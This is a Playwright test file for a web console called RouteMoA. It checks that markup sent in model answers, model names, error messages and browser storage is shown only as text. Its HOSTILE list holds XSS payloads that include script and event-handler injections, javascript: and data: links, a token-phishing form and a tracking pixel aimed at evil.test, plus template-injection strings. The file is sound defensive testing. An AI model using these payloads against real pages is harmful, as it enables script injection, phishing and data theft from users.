"""Models and callers that send markup, scripts and worse: the page shows them as text."""

from __future__ import annotations

import time
from typing import TYPE_CHECKING

import pytest
from playwright.async_api import expect

from routemoa.errors import GenerationFailedError
from tests.console.scripted_router import MODELS, delta, event, layer, result, routing, usage

if TYPE_CHECKING:
    from collections.abc import AsyncIterator

    from routemoa.v1 import router_service_pb2 as pb
    from tests.console.chromium import Tab
    from tests.console.scripted_router import ScriptedRouter

pytestmark = pytest.mark.asyncio(loop_scope="session")

HOSTILE = (
    "<script>window.pwned = 1</script>",
    '<img src=x onerror="window.pwned = 1">',
    "<svg onload=window.pwned=1><animate onbegin=window.pwned=1>",
    '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
    "<style>body { display: none }</style>",
    "<form action=https://evil.test><input name=token><button>Log in</button></form>",
    "<base href=https://evil.test/><link rel=stylesheet href=https://evil.test/a.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "[click me](javascript:window.pwned=1)",
    "[click me](JaVaScRiPt:window.pwned=1)",
    "[click me]( javascript:window.pwned=1)",
    "[click me](java\tscript:window.pwned=1)",
    "[click me](data:text/html,<script>window.pwned=1</script>)",
    "[click me](vbscript:window.pwned=1)",
    '[click me](https://a.test/"onmouseover="window.pwned=1)',
    "![pixel](https://evil.test/track.png?q=secret)",
    "![pixel](data:image/svg+xml,<svg onload=window.pwned=1>)",
    "[a]: javascript:window.pwned=1\n[a]",
    "<https://evil.test/x onclick=window.pwned=1>",
    "```html\n<script>window.pwned = 1</script>\n```",
    "```<img src=x onerror=window.pwned=1>\ncode\n```",
    "| <script>pwned=1</script> | b |\n| --- | --- |\n| <img src=x onerror=pwned=1> | c |",
    "# <img src=x onerror=window.pwned=1>",
    "- <img src=x onerror=window.pwned=1>",
    "> <img src=x onerror=window.pwned=1>",
    "**<img src=x onerror=window.pwned=1>**",
    "`<img src=x onerror=window.pwned=1>`",
    "</div></section><h1>RouteMoA needs your key</h1>",
    "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1}",
    "__proto__ constructor toString",
    "\u202egnp.exe\u202c \u2066\u2067 \u200f \u0000 \ufffe \ud7ff",
    'data: {"error":{}}\n\ndata: x\n\nevent: y',
    "\u2028\u2029 line separators",
    "A" * 5_000,
)
FORBIDDEN = "script, style, iframe, object, embed, form, input, button, base, link, meta, img, svg"


@pytest.mark.parametrize("start", range(0, len(HOSTILE), 12))
async def test_a_hostile_answer_is_only_text(tab: Tab, router: ScriptedRouter, start: int) -> None:
    texts = HOSTILE[start : start + 12]

    async def script(request: pb.StreamAnswerRequest) -> AsyncIterator[pb.StreamAnswerResponse]:
        yield routing()
        yield layer({model_id: "\n\n".join(texts) for model_id in MODELS[:2]})
        for text in texts:
            for piece in (text[: len(text) // 2], text[len(text) // 2 :], "\n\n"):
                yield delta(piece)
        yield event(delta={"reasoning": texts[0], "refusal": texts[1]})
        yield event(delta={"toolCalls": [{"name": texts[0], "argumentsJson": texts[1]}]})
        yield result()

    router.script = script
    page = tab.page
    await tab.open()
    await tab.ask()
    await tab.ended()
    await expect(page.locator("#answer")).to_be_visible()
    for region in ("#answer-text", ".card .answer-text", "#answer-tools", "#reasoning-text"):
        assert await page.locator(region).locator(FORBIDDEN).count() == 0
    hrefs = await page.eval_on_selector_all("a", "links => links.map(link => link.href)")
    assert all(href.startswith(("http://", "https://")) for href in hrefs)
    rels = await page.eval_on_selector_all(".prose a", "links => links.map(link => link.rel)")
    assert all("noopener" in rel for rel in rels)
    handlers = await page.evaluate(
        "[...document.querySelectorAll('*')].flatMap(e => e.getAttributeNames())"
        ".filter(name => name.startsWith('on'))"
    )
    assert handlers == []
    assert await page.evaluate("typeof window.pwned") == "undefined"
    assert await page.title() == "RouteMoA console"
    for link in await page.locator(".prose a").all():
        assert await link.get_attribute("target") == "_blank"


async def test_what_a_hostile_answer_says_stays_readable(tab: Tab, router: ScriptedRouter) -> None:
    text = 'Use <b>bold</b> & "quotes", 1 < 2, a_b_c, 2*3*4, <script>alert(1)</script>.'

    async def script(request: pb.StreamAnswerRequest) -> AsyncIterator[pb.StreamAnswerResponse]:
        yield routing()
        yield delta(text)
        yield result()

    router.script = script
    await tab.open()
    await tab.ask()
    await tab.ended()
    assert await tab.page.locator("#answer-text").text_content() == text


async def test_hostile_names_and_messages_are_only_text(tab: Tab, router: ScriptedRouter) -> None:
    image = "<img src=x onerror=window.pwned=1>"

    async def script(request: pb.StreamAnswerRequest) -> AsyncIterator[pb.StreamAnswerResponse]:
        decision = routing(selected=[image])
        model = decision.routing.ranked_models.add(model_id=image, explanation=image, score=9e9)
        model.expected_latency.FromSeconds(10**9)
        yield decision
        entries = [usage(image, status="CALL_STATUS_REJECTED", backendMessage=image)]
        yield layer({image: image, "__proto__": image}, entries)
        yield event(reset={"status": 99})
        raise GenerationFailedError(image)

    router.script = script
    page = tab.page
    await tab.open()
    await tab.ask("<img src=x onerror=window.pwned=1>")
    await expect(page.get_by_role("alert")).to_contain_text(image)
    await expect(page.locator(".rank.runs")).to_have_count(1)
    await expect(page.locator(".card")).to_have_count(2)
    assert await page.locator("main img").count() == 0
    assert await page.evaluate("typeof window.pwned") == "undefined"


async def test_hostile_local_storage_breaks_nothing(tab: Tab) -> None:
    await tab.open()
    for value in (
        "{",
        "[1, null, {}]",
        '{"length": 3}',
        '[{"id":"a","question":"<b>","strategy":"x"}]',
    ):
        await tab.page.evaluate("value => localStorage.setItem('routemoa.recent', value)", value)
        await tab.page.evaluate("localStorage.setItem('routemoa.theme', '<b>')")
        await tab.page.reload()
        await expect(tab.page.locator("#pool li")).to_have_count(len(MODELS))
    await expect(tab.page.locator("#recent button")).to_have_text("<b>")
    await tab.ask()
    await tab.ended()


async def test_the_browser_itself_refuses_markup_and_scripts(tab: Tab) -> None:
    await tab.open()
    refused = await tab.page.evaluate(
        "(() => { try { document.body.innerHTML = '<b>'; return false } catch { return true } })()"
    )
    assert refused
    await tab.page.evaluate(
        "(() => { const image = new Image(); image.src = 'https://evil.test/a.png';"
        " document.body.append(image);"
        " const script = document.createElement('script');"
        " try { script.textContent = 'window.pwned = 1' } catch {}"
        " document.body.append(script) })()"
    )
    assert await tab.page.evaluate("typeof window.pwned") == "undefined"
    assert tab.errors
    assert all("Content Security Policy" in error or "Trusted" in error for error in tab.errors)
    tab.errors.clear()
    tab.addresses[:] = [each for each in tab.addresses if each.startswith(tab.url)]


async def test_an_answer_of_300_kilobytes_streams_and_the_page_stays_quick(
    tab: Tab, router: ScriptedRouter
) -> None:
    paragraph = "The **leg** of a `spider` has *seven* segments: [see](https://a.test/b).\n\n"

    async def script(request: pb.StreamAnswerRequest) -> AsyncIterator[pb.StreamAnswerResponse]:
        yield routing()
        for _ in range(4_000):
            yield delta(paragraph)
        yield result()

    router.script = script
    await tab.open()
    begun_s = time.monotonic()
    await tab.ask()
    await tab.ended()
    assert time.monotonic() - begun_s < 60
    length = await tab.page.evaluate("document.getElementById('answer-text').textContent.length")
    assert length > 250_000
